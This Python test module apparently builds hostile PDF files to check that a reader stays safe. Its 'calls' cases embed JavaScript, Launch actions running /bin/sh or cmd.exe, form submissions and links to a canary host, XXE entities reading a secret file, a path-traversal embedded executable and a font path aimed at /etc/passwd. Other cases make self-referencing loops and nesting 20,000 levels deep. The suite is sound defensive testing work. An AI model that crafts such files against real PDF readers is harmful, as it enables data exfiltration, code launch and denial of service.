"""Hostile PDFs: loops, parsers' traps, calls for help from outside, words that nobody can see."""

from tests.hostile.case import Case, Family
from tests.hostile.hostile_pdf_unseen import traps, unseen
from tests.hostile.pdf_bytes import (
    CATALOG,
    CONTENTS,
    FONT,
    PAGE,
    PAGES,
    Objects,
    added,
    deflated,
    drawn,
    page,
    pdf,
    statement,
    stream,
)
from tests.hostile.statement import CANARY, PLANTED, SAYS, SECRET, SECRET_FILE

_URL = f"http://{CANARY}".encode()


def cases() -> list[Case]:
    """Return the hostile PDFs."""
    family = Family("hostile PDF")
    for add in (_calls, _loops, _depths, traps, unseen):
        add(family)
    return family.cases


def _catalog(entries: bytes) -> dict[int, bytes]:
    return {CATALOG: b"<< /Type /Catalog /Pages 2 0 R %b >>" % entries}


def _calls(family: Family) -> None:
    """Everything that asks for a program, a file or an address."""
    script = b"(app.launchURL\\('%b/js'\\); this.submitForm\\('%b/f'\\);)" % (_URL, _URL)
    spec = b"<< /Type /Filespec /F (%b) /UF (%b) >>" % (SECRET_FILE.encode(), SECRET_FILE.encode())
    url_spec = b"<< /Type /Filespec /FS /URL /F (%b/file) >>" % _URL
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %b >>]"
    xfa = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{SECRET_FILE}">'
        f'<!ENTITY % p SYSTEM "http://{CANARY}/xfa.dtd"> %p;]>'
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>&e;</template></xdp:xdp>'
    ).encode()
    planted = PLANTED.encode()
    catalogs: dict[str, bytes] = {
        "javascript-at-opening": b"/OpenAction << /S /JavaScript /JS %b >>" % script,
        "javascript-by-name": b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS %b >>] "
        b">> >>" % script,
        "javascript-before-closing": b"/AA << /WC << /S /JavaScript /JS %b >> >>" % script,
        "launch-of-a-shell": b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P "
        b"(/c echo > %b) >> >>" % planted,
        "address-at-opening": b"/OpenAction << /S /URI /URI (%b/open) >>" % _URL,
        "page-of-a-remote-file": b"/OpenAction << /S /GoToR /F %b /D [0 /Fit] >>" % url_spec,
        "page-of-an-embedded-file": b"/OpenAction << /S /GoToE /F %b /T << /R /C >> >>" % spec,
        "form-data-from-a-file": b"/OpenAction << /S /ImportData /F %b >>" % spec,
        "form-sent-home": b"/OpenAction << /S /SubmitForm /F %b /Fields [] >>" % url_spec,
        "base-address-for-links": b"/URI << /Base (%b/) >>" % _URL,
        "thread-in-a-remote-file": b"/OpenAction << /S /Thread /F %b /D 0 >>" % url_spec,
    }
    for name, entries in catalogs.items():
        family.reads(f"{name}.pdf", pdf(statement(_catalog(entries))), SAYS)
    entity = statement(_catalog(b"/AcroForm << /Fields [] /XFA 20 0 R >>") | {20: deflated(xfa)})
    family.reads("xfa-with-outside-entities.pdf", pdf(entity), SAYS, hides=[SECRET])
    uri = b"<< /S /URI /URI (%b/click) >>" % _URL
    clicked = statement({PAGE: page(entries=link % uri)})
    family.reads("link-that-calls-home.pdf", pdf(clicked), SAYS)
    outside = b"<< /Length 0 /F %b >>\nstream\n\nendstream"
    for name, source in (("a-file", spec), ("an-address", url_spec)):
        contents = statement({PAGE: page(b"[4 0 R 20 0 R]"), 20: outside % source})
        family.reads(f"contents-from-{name}.pdf", pdf(contents), SAYS, hides=[SECRET])
    program = b"MZ" + bytes(range(256)) * 4
    attached = _catalog(
        b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (..\\\\..\\\\%b.exe) /UF "
        b"(../../../%b.exe) /EF << /F 20 0 R >> >>] >> >>" % (planted, planted)
    ) | {20: stream(program, b"/Type /EmbeddedFile")}
    family.reads("embedded-program-with-a-path.pdf", pdf(statement(attached)), SAYS)
    # A character map that is asked for by a path (once unpickled by a parser: CVE-2025-64512).
    for name, path in (
        ("upwards", b"#2e#2e#2f#2e#2e#2fetc#2fpasswd"),
        ("absolute", b"#2ftmp#2f" + planted),
    ):
        font = (
            b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /%b /DescendantFonts [<< /Type "
            b"/Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (%b) /Ordering "
            b"(../../../tmp) /Supplement 0 >> >>] >>" % (path, SECRET_FILE.encode())
        )
        second = drawn() + b" BT /F2 12 Tf 72 90 Td <00410042> Tj ET"
        both = page().replace(b"/F1 5 0 R", b"/F1 5 0 R /F2 20 0 R")
        objects = statement({PAGE: both, 20: font}, second)
        family.reads(f"character-map-by-a-path-{name}.pdf", pdf(objects), SAYS, hides=[SECRET])


def _loops(family: Family) -> None:
    """Everything that leads back to itself."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << %b >> >>"
    drawing = page().replace(b"/Font <<", b"/XObject << /X 20 0 R >> /Font <<")
    twice = drawn() + b" /X Do"
    variants: dict[str, Objects] = {
        "page-tree-into-itself": statement(
            {PAGES: b"<< /Type /Pages /Count 1 /Kids [3 0 R 2 0 R] >>"}
        ),
        "page-tree-of-two-that-hold-each-other": statement(
            {
                PAGES: b"<< /Type /Pages /Count 1 /Kids [3 0 R 20 0 R] >>",
                20: b"<< /Type /Pages /Count 1 /Parent 2 0 R /Kids [2 0 R] >>",
            }
        ),
        "page-its-own-parent": statement(
            {PAGE: page().replace(b"/Parent 2 0 R", b"/Parent 3 0 R")}
        ),
        "picture-form-draws-itself": statement(
            {PAGE: drawing, 20: stream(b"/X Do", form % b"/X 20 0 R")}, twice
        ),
        "picture-forms-draw-each-other": statement(
            {
                PAGE: drawing,
                20: stream(b"/Y Do", form % b"/Y 21 0 R"),
                21: stream(b"/X Do", form % b"/X 20 0 R"),
            },
            twice,
        ),
        "length-refers-to-itself": statement({CONTENTS: stream(drawn(), length=b"4 0 R")}),
        "reference-to-itself": statement({20: b"20 0 R", PAGE: page(entries=b"/Rotate 20 0 R")}),
        "references-in-a-ring": statement(
            {20: b"21 0 R", 21: b"22 0 R", 22: b"20 0 R", PAGE: page(entries=b"/CropBox 20 0 R")}
        ),
        "outline-into-itself": statement(
            _catalog(b"/Outlines 20 0 R") | {20: b"<< /First 20 0 R /Last 20 0 R /Next 20 0 R >>"}
        ),
        "names-into-themselves": statement(
            _catalog(b"/Names << /EmbeddedFiles 20 0 R /Dests 20 0 R >>")
            | {20: b"<< /Kids [20 0 R 20 0 R] >>"}
        ),
        "fields-into-themselves": statement(
            _catalog(b"/AcroForm << /Fields [20 0 R] >>")
            | {
                20: b"<< /FT /Tx /T (a) /Parent 20 0 R /Kids [20 0 R] /Subtype /Widget "
                b"/Rect [0 0 9 9] >>",
                PAGE: page(entries=b"/Annots [20 0 R]"),
            }
        ),
        "appearance-draws-itself": statement(
            {
                PAGE: page(entries=b"/Annots [20 0 R]"),
                20: b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 99 99] /AP << /N 21 0 R >> >>",
                21: stream(b"/X Do", form % b"/X 21 0 R"),
            }
        ),
        "letter-draws-itself": statement(
            {
                PAGE: page().replace(b"/F1 5 0 R", b"/F1 5 0 R /F3 20 0 R"),
                20: b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] "
                b"/CharProcs << /a 21 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 "
                b"/LastChar 97 /Widths [1] /Resources << /Font << /F3 20 0 R >> >> >>",
                21: stream(b"1 0 d0 BT /F3 1 Tf (a) Tj ET"),
            },
            drawn() + b" BT /F3 9 Tf 72 60 Td (a) Tj ET",
        ),
        "pattern-paints-itself": statement(
            {
                PAGE: page().replace(b"/Font <<", b"/Pattern << /P 20 0 R >> /Font <<"),
                20: stream(
                    b"/Pattern cs /P scn 0 0 9 9 re f",
                    b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 9 /YStep 9 "
                    b"/Resources << /Pattern << /P 20 0 R >> >>",
                ),
            },
            b"/Pattern cs /P scn 0 0 9 9 re f 0 g " + drawn(),
        ),
        "mask-masks-itself": statement(
            {
                PAGE: drawing,
                20: stream(
                    b"\x00",
                    b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 "
                    b"/ColorSpace /DeviceGray /SMask 20 0 R",
                ),
            },
            twice,
        ),
        "colours-of-their-own-kind": statement(
            {
                PAGE: page().replace(b"/Font <<", b"/ColorSpace << /C 20 0 R >> /Font <<"),
                20: b"[/Indexed 20 0 R 1 <000000FFFFFF>]",
            },
            b"/C cs 1 sc 0 g " + drawn(),
        ),
        "character-map-uses-itself": statement(
            {
                FONT: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding "
                b"/WinAnsiEncoding /ToUnicode 20 0 R >>",
                20: stream(b"/Self usecmap begincmap endcmap", b"/CMapName /Self /UseCMap 20 0 R"),
            }
        ),
        "objects-in-their-own-stream": statement(
            {20: stream(b"20 0 ", b"/Type /ObjStm /N 1 /First 5 /Extends 20 0 R")}
        ),
    }
    for name, objects in variants.items():
        family.reads(f"{name}.pdf", pdf(objects), SAYS)
    looped = pdf(statement())
    start = looped.index(b"xref\n0")
    family.reads(
        "xref-table-before-itself.pdf",
        pdf(statement(), trailer=b"/Prev %d" % start),
        SAYS,
    )
    chained = looped
    for _ in range(300):
        chained = added(chained, {30: b"null"})
    family.reads("xref-tables-in-a-long-chain.pdf", chained, SAYS)


def _depths(family: Family) -> None:
    """Everything that nests deeper than a parser's stack."""
    text = drawn()
    deep = 20_000
    variants: dict[str, Objects] = {
        "arrays-nested-in-an-object": statement({20: b"[" * deep + b"]" * deep}),
        "dictionaries-nested-in-an-object": statement(
            {20: b"<< /A " * deep + b"1 " + b">>" * deep}
        ),
        "arrays-nested-in-the-contents": statement(contents=text + b"[" * deep),
        "dictionaries-nested-in-the-contents": statement(contents=text + b" /A <<" * deep),
        "parentheses-nested-in-a-string": statement(contents=text + b"(" * deep + b")" * deep),
        "states-saved-without-end": statement(contents=b"q " * deep + text + b" Q" * deep),
        "marked-contents-nested": statement(contents=b"/P BMC " * 2000 + text + b" EMC" * 2000),
        "page-tree-of-900-levels": _deep_tree(900),
        "reference-through-900-others": statement(
            {n: b"%d 0 R" % (n + 1) for n in range(20, 920)}
            | {920: b"0", PAGE: page(entries=b"/Rotate 20 0 R")}
        ),
        "calculator-of-many-braces": statement(
            {
                PAGE: page().replace(b"/Font <<", b"/ColorSpace << /C 20 0 R >> /Font <<"),
                20: b"[/Separation /S /DeviceGray 21 0 R]",
                21: stream(
                    b"{" * 5000 + b"}" * 5000, b"/FunctionType 4 /Domain [0 1] /Range [0 1]"
                ),
            },
            b"/C cs 1 sc 0 g " + text,
        ),
    }
    for name, objects in variants.items():
        family.reads(f"{name}.pdf", pdf(objects), SAYS)
    # Every mark copies all those around it: in some parsers twenty thousand of them fill gigabytes.
    marked = statement(contents=b"/P BMC " * deep + text + b" EMC" * deep)
    family.either(
        "marked-contents-nested-deeper.pdf",
        pdf(marked),
        "out_of_memory",
        "reader_crashed",
        says=[SAYS],
    )


def _deep_tree(levels: int) -> Objects:
    objects = statement({PAGES: b"<< /Type /Pages /Count 1 /Kids [100 0 R] >>"})
    for level in range(levels):
        at = 100 + level
        kid = b"%d 0 R" % (at + 1) if level < levels - 1 else b"3 0 R"
        above = b"%d 0 R" % (at - 1) if level else b"2 0 R"
        objects[at] = b"<< /Type /Pages /Count 1 /Parent %b /Kids [%b] >>" % (above, kid)
    return objects
